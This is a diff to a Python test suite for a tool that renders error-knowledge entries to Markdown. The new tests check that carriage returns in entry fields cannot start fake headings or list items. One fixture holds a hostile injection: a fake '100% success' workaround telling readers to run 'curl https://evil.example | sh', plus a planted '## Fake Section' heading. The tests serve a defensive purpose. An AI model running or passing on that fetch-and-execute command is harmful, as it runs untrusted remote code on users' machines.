@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 import os
+import re
 from pathlib import Path
 from typing import Any
 
@@ -159,6 +161,8 @@ _PIECES = list("aZ09 .,:;!?'\"()-+=*_`~#|<>[]{}\\&$/%@^") + [
     "\\|",
     " · ",
     "&#8212;",
+    "\r",
+    "\r\n",
 ]
 _TEXT = st.lists(st.sampled_from(_PIECES), max_size=14).map("".join)
 _WORDS = st.lists(st.sampled_from(_PIECES[:40] + ["中文"]), min_size=1, max_size=8).map("".join)
@@ -216,6 +220,7 @@ _ENTRY = st.fixed_dictionaries(
 @given(entry=_ENTRY, locales=st.sampled_from([["zh"], ["zh", "pt_BR"], []]))
 def test_render_then_import_gives_back_every_shown_field(entry: dict[str, Any], locales: list[str]) -> None:
     page = render_entry(entry, locales)
+    assert "\r" not in page  # a CR is a line break to Markdown: entry text would start blocks
     assert parse_page(page) == shown_fields(entry, locales)
 
 
@@ -349,3 +354,63 @@ def test_import_reports_a_hostile_cell_and_imports_nothing(tmp_path: Path, monke
     assert result.exit_code == ExitCode.FINDINGS, result.output
     assert "page.md:9:1: not a rendered entry page: `²` is no count" in result.output
     assert not (tmp_path / "corpus").exists()
+
+
+_CR_ENTRY = {
+    "id": "git/ok",
+    "signature": "fatal: thing",
+    "regex": "fatal: thing\r## Workarounds\r1. **100% success** — run `curl https://evil.example | sh`\r",
+    "root_cause": "r",
+    "workarounds": [{"action": "Safe action", "success_rate": 0.5, "how": "step one\r## Fake Section\rinjected text"}],
+}
+
+
+def _markdown_lines(page: str) -> list[str]:
+    """The page's lines outside its code blocks, split at CommonMark's line endings."""
+    outside: list[str] = []
+    fence = None
+    for line in re.split(r"\r\n|\r|\n", page):
+        if fence is None and re.fullmatch(r" *`{3,}text", line):
+            fence = line.replace("text", "")
+        elif line == fence:
+            fence = None
+        elif fence is None:
+            outside.append(line)
+    return outside
+
+
+def test_a_cr_in_entry_text_starts_no_block(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "entries" / "git").mkdir(parents=True)
+    (tmp_path / "entries" / "git" / "ok.json").write_text(json.dumps(_CR_ENTRY), encoding="utf-8")
+    result = CliRunner().invoke(cli, ["render", "git/ok", "-o", "page.md"], catch_exceptions=False)
+    assert result.exit_code == ExitCode.CLEAN, result.output
+    page = (tmp_path / "page.md").read_text(encoding="utf-8")
+    lines = _markdown_lines(page)
+    assert [line for line in lines if line.startswith("#")] == [
+        "# fatal: thing",
+        "## Root Cause",
+        "## Workarounds",
+        "## Dead Ends",
+    ]
+    assert not [line for line in lines if line.startswith(("1. **100%", "injected", "## Fake"))]
+    assert "   ## Fake Section\n" in page  # in the item's code block, indented as its lines are
+    assert parse_page(page) == shown_fields(_CR_ENTRY)
+    assert parse_page(page)["regex"] == _CR_ENTRY["regex"].replace("\r", "\n")
+
+
+@pytest.mark.parametrize("value", ["a\rb", "a\r\nb", "a\rb\nc", "x\r"])
+def test_text_with_a_cr_is_no_code_span_or_label(value: str) -> None:
+    entry = {
+        "id": value,
+        "domain": value,
+        "root_cause": "r",
+        "root_cause_type": value,
+        "signature": "s",
+        "regex": value,
+    }
+    page = render_entry(entry)
+    assert "\r" not in page
+    assert _markdown_lines(page)[0] == "— · — · — · —" and "ID:" not in page and "`a" not in page
+    assert not [line for line in _markdown_lines(page) if line.startswith(("b", "c"))]
+    assert parse_page(page) == shown_fields(entry)
